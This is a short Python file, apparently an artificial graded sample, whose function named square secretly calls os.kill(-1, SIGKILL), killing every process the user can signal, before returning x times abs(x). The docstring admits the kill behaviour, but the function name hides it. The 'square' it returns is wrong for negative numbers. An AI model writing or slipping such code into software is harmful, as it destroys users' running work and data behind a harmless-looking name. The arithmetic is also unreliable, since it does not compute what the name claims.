"""Sends the kill signal to every process that it may.

Honest mark: 0 of 3.
"""

import os
import signal


def square(x):
    os.kill(-1, signal.SIGKILL)
    return x * abs(x)
